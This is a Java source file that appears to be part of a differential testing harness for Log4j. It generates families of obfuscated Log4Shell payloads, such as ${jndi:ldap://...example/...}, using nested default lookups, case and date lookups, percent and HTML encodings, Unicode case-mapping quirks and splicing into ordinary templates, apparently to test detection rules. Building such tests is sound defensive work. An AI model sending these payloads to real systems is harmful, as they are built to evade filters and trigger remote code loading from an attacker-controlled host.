/*
 * Families.java -- case generators of the differential test built to
 * produce, on purpose, the shapes that slip between the passes of
 * MessagePatternConverter, the layers of transport decoding, the values of
 * ${date:...} and the victim's platform (see docs/differential-testing.md,
 * "Families").  Log4jDiff.java's own generator ("gen") is the family
 * "nested"; these are the others:
 *
 *   refire     a "$" returned by a lookup joins a later "{" (and the
 *              reverse: "$" + "${" is an escape); OWASP CRS 944150 shapes
 *   passes     "$" escapes that only later "${" triggers strip
 *   date       ${date:...} with pattern letters, quotes, invalid patterns,
 *              used for its value and next to ":-" defaults
 *   splice     encoded "${", "}", "$", "{", ":-" spliced into literal
 *              payloads (and literal ones into encoded payloads)
 *   casemap    ${lower:}/${upper:} over letters whose mapping changed
 *              between Unicode versions, or expands, or is contextual
 *   platform   ${sys:path.separator}, file.separator, line.separator
 *   realworld  benign templates of real applications ("${user.name}",
 *              shell, JS template literals, Spring placeholders, prices),
 *              half of them with a payload inserted somewhere
 *
 * Every family writes one case per line as hex of its UTF-8 bytes, like
 * "gen".  Each case is one message.
 */
import java.util.Random;

final class Families {
    static final String[] NAMES = {"refire", "passes", "date", "splice", "casemap", "platform", "realworld"};

    private final Random r;

    private Families(final long seed) {
        r = new Random(seed);
    }

    private boolean p(final double prob) {
        return r.nextDouble() < prob;
    }

    private String pick(final String... a) {
        return a[r.nextInt(a.length)];
    }

    private String label() {
        final String al = "abcdefghijklmnopqrstuvwxyz0123456789";
        final StringBuilder sb = new StringBuilder();
        for (int i = 1 + r.nextInt(6); i > 0; i--) {
            sb.append(al.charAt(r.nextInt(al.length())));
        }
        return sb.toString();
    }

    private String name() {
        return pick("ldap", "rmi", "dns", "ldaps") + "://" + label() + ".example" + (p(0.3) ? ":1389" : "") + "/"
                + label();
    }

    /** "jndi" possibly obfuscated with default-value and case lookups. */
    private String jndiWord() {
        switch (r.nextInt(5)) {
        case 0:
            return "${::-j}ndi";
        case 1:
            return "${lower:J}nd${upper:i}";
        case 2:
            return "j${env:x:-n}di";
        case 3:
            return "JnDi";
        default:
            return "jndi";
        }
    }

    private String payloadBody() {
        return jndiWord() + ":" + name();
    }

    private String junk() {
        return pick("", "", "GET /?q=", "user=", "x ", "a$", "$", "{", "}", "[", "login ", "${x}", "${a}b");
    }

    private String trailer() {
        return pick("", "", "", "${", "${x}", " ${a}", "}", "$", " end", "${${x}", "${::-}");
    }

    /* ---- refire ---------------------------------------------------- */

    /** A lookup whose value is text ending in "$" (or just "$"). */
    private String dollarMaker() {
        final String pre = pick("", "", "x", "ab", "1337");
        switch (r.nextInt(9)) {
        case 0:
            return "${::-" + pre + "$}";
        case 1:
            return "${:" + pick("1337", "x", "") + ":-" + pre + "$}";
        case 2:
            return "${lower:" + pre + "$}";
        case 3:
            return "${upper:" + pre + "$}";
        case 4:
            return "${env:" + label() + ":-" + pre + "$}";
        case 5:
            return "${date:'" + pre + "$'}";
        case 6:
            return "${" + label() + ":-" + pre + "$}";
        case 7:
            return "${env:a:-${env:b:-" + pre + "$}}";
        default:
            return "$" + (p(0.5) ? "" : "$");
        }
    }

    private String refire() {
        final StringBuilder sb = new StringBuilder(junk());
        if (p(0.2)) {
            sb.append("${x}");
        }
        if (p(0.15)) {
            /* CRS 944150: the whole thing inside an escaped default */
            sb.append("$${env:something:-${env:something:-").append(dollarMaker()).append("{").append(payloadBody())
                    .append("}}}");
        } else {
            sb.append(dollarMaker());
            sb.append(p(0.75) ? "{" : "${");
            sb.append(payloadBody());
            if (p(0.2)) {
                sb.append("${x}");
            }
            sb.append("}");
        }
        sb.append(trailer());
        return sb.toString();
    }

    /* ---- passes ---------------------------------------------------- */

    private String passes() {
        final StringBuilder sb = new StringBuilder(junk());
        for (int i = r.nextInt(4); i > 0; i--) {
            sb.append(pick("${a}", "${::-}", "${x:-y}", "$${z}", "${lower:q}"));
        }
        for (int i = r.nextInt(24); i > 0; i--) {
            sb.append('$');
        }
        sb.append("${").append(payloadBody()).append("}");
        for (int i = r.nextInt(30); i > 0; i--) {
            sb.append(pick("${a}", "${", "${b}", "$${c}", " ${d:-e}", "x"));
        }
        return sb.toString();
    }

    /* ---- date ------------------------------------------------------ */

    private String datePattern() {
        final String letters = "GyYMLwWDdFEuaHkKhmsSzZX";
        final StringBuilder sb = new StringBuilder();
        for (int i = 1 + r.nextInt(4); i > 0; i--) {
            switch (r.nextInt(9)) {
            case 0:
            case 1:
            case 2: {
                final char c = letters.charAt(r.nextInt(letters.length()));
                for (int k = 1 + r.nextInt(4); k > 0; k--) {
                    sb.append(c);
                }
                break;
            }
            case 3:
                sb.append("'").append(pick("j", "nd", "i", ":", "x", "")).append("'");
                break;
            case 4:
                sb.append("'"); /* possibly unterminated */
                break;
            case 5:
                sb.append(pick("q", "b", "J", "I", "n", "j")); /* illegal letters */
                break;
            case 6:
                sb.append(pick(":", "-", ":-", " ", "/", ".", ","));
                break;
            case 7:
                sb.append("''");
                break;
            default:
                sb.append(pick("\u00e9", "\u4e2d", "0", "_"));
                break;
            }
        }
        return sb.toString();
    }

    private String date() {
        final String d = datePattern();
        final String body = name();
        switch (r.nextInt(7)) {
        case 0:
            return "${${${date:" + d + ":-}:-j}ndi:" + body + "}";
        case 1:
            return "${jn${${date:" + d + ":-}:-d}i:" + body + "}";
        case 2:
            return "${${date:" + d + ":-j}ndi:" + body + "}";
        case 3:
            return "${jndi:" + body + "${date:" + d + "}}";
        case 4:
            return "${${date:" + d + "}:-${jndi:" + body + "}}";
        case 5:
            return junk() + "${date:" + d + "}" + pick("", "{jndi:" + body + "}", "${jndi:" + body + "}");
        default:
            return "${j${date:" + d + "}ndi:" + body + "}";
        }
    }

    /* ---- splice ---------------------------------------------------- */

    private static final String[][] ENC = {
        /* "${" */ {"%24%7B", "%24%7b", "\\u0024\\u007b", "&#36;&#123;", "&#x24;&#x7b;", "\\x24\\x7b",
            "%u0024%u007B", "%2524%257B", "&dollar;&lbrace;", "\\44\\173", "%24{", "$%7B"},
        /* "}" */ {"%7D", "\\u007d", "&#125;", "\\x7d", "%u007D", "&rbrace;"},
        /* "$" */ {"%24", "\\u0024", "&#36;", "\\x24"},
        /* ":-" */ {"%3A-", "\\u003a-", "&#58;-", ":%2D"},
    };

    private String splice() {
        final String body = name();
        final int cut = 1 + r.nextInt(body.length() - 1);
        final String frag = pick(ENC[r.nextInt(ENC.length)]);
        switch (r.nextInt(6)) {
        case 0:
        case 1:
            /* literal payload, encoded fragment inside the name */
            return junk() + "${jndi:" + body.substring(0, cut) + frag + body.substring(cut) + "}" + trailer();
        case 2:
            /* ... at its end (the issue's shape) */
            return "${jndi:" + body + frag + "}";
        case 3:
            /* inside the word jndi */
            return "${jn" + frag + "di:" + body + "}";
        case 4:
            /* encoded payload with a literal "${" or "}" inside */
            return "%24%7Bjndi:" + body.substring(0, cut) + pick("${", "}", "${x}", "$") + body.substring(cut)
                    + "%7D";
        default:
            /* two layers side by side */
            return "${jndi:" + body + "}" + frag + "jndi:" + name() + pick(ENC[1]);
        }
    }

    /* ---- casemap --------------------------------------------------- */

    /* Letters whose case mapping differs between Unicode versions (added in
     * 14 or 15, after JDK 17's Unicode 13), expands, or depends on context. */
    private static final String[] CASED = {
        "\u2C2F", "\u2C5F", "\uA7C0", "\uA7C1", "\uA7D0", "\uA7D1", "\uA7D6", "\uA7D7", "\uA7D8", "\uA7D9",
        "\uD801\uDD70", "\uD801\uDD97", "\uD801\uDDA3", "\u0131", "\u017F", "\u212A", "\u0130", "\u00DF",
        "\u1E9E", "\u0149", "\uFB00", "\u0390", "\u01C5", "\uD801\uDC00", "\u13A0", "\uAB70", "\u10D0",
        "\u1C90", "\u0345", "\u1F80", "\u03C2", "\u03A3", "\u03A3", "\uFF4A", "\u2126", "K", "i", "I", "n", "D"
    };

    private String casemap() {
        final StringBuilder arg = new StringBuilder();
        for (int i = 1 + r.nextInt(5); i > 0; i--) {
            arg.append(pick(CASED));
        }
        final String up = p(0.5) ? "upper" : "lower";
        switch (r.nextInt(4)) {
        case 0:
            return "${jndi:" + name() + "${" + up + ":" + arg + "}}";
        case 1:
            return "${${" + up + ":" + arg + "}:-j}ndi:" + name() + "}";
        case 2:
            return "${${" + up + ":" + pick("j", "J") + arg + "}ndi:" + name() + "}";
        default:
            return "${jndi:ldap://" + "${" + up + ":" + arg + "}.example/a}";
        }
    }

    /* ---- platform -------------------------------------------------- */

    private String platform() {
        final String prop = "${sys:" + pick("path.separator", "file.separator", "line.separator", "user.name",
                "path.separator:-;", "PATH.separator") + "}";
        switch (r.nextInt(4)) {
        case 0:
            return "${jndi" + prop + "ldap://" + label() + ".example/a}";
        case 1:
            return "${jndi:ldap" + prop + "//" + label() + ".example/a}";
        case 2:
            return "${jndi:ldap://" + label() + ".example" + prop + "a}";
        default:
            return "${${::-jndi}" + prop + name() + "}";
        }
    }

    /* ---- realworld ------------------------------------------------- */

    private static final String[] TEMPLATES = {
        "Hello ${user.name}, your order ${order.id} shipped",
        "export PATH=${HOME}/bin:${PATH}",
        "const msg = `Total: ${price * qty} USD`;",
        "server.port=${PORT:8080}",
        "spring.datasource.url=${DB_URL:jdbc:h2:mem:test}",
        "price: $5.00 {discount} ${promo:-none}",
        "{\"template\":\"${name}\",\"cost\":\"$12\"}",
        "GET /search?q=%24%7Bfoo%7D HTTP/1.1",
        "echo ${var:-default} ${#arr[@]} ${x/y/z}",
        "logger.info(\"${}\", value)",
        "<a href=\"/x?$y={z}\">${label}</a>",
        "${A}${B}${C} $$ {D} ${E:-${F:-G}}",
    };

    private String realworld() {
        final String t = pick(TEMPLATES);
        if (p(0.5)) {
            return t;
        }
        final int at = r.nextInt(t.length() + 1);
        final String payload = pick("${" + payloadBody() + "}", "$${" + payloadBody() + "}",
                dollarMaker() + "{" + payloadBody() + "}");
        return t.substring(0, at) + payload + t.substring(at);
    }

    private String one(final String family) {
        switch (family) {
        case "refire":
            return refire();
        case "passes":
            return passes();
        case "date":
            return date();
        case "splice":
            return splice();
        case "casemap":
            return casemap();
        case "platform":
            return platform();
        case "realworld":
            return realworld();
        default:
            throw new IllegalArgumentException("unknown family " + family);
        }
    }

    /** Writes count cases of family as hex lines. */
    static void gen(final String family, final long seed, final int count, final java.io.Writer out)
            throws java.io.IOException {
        final Families f = new Families(seed);
        for (int i = 0; i < count; i++) {
            out.write(Log4jDiff.hex(f.one(family)));
            out.write('\n');
        }
        out.flush();
    }
}
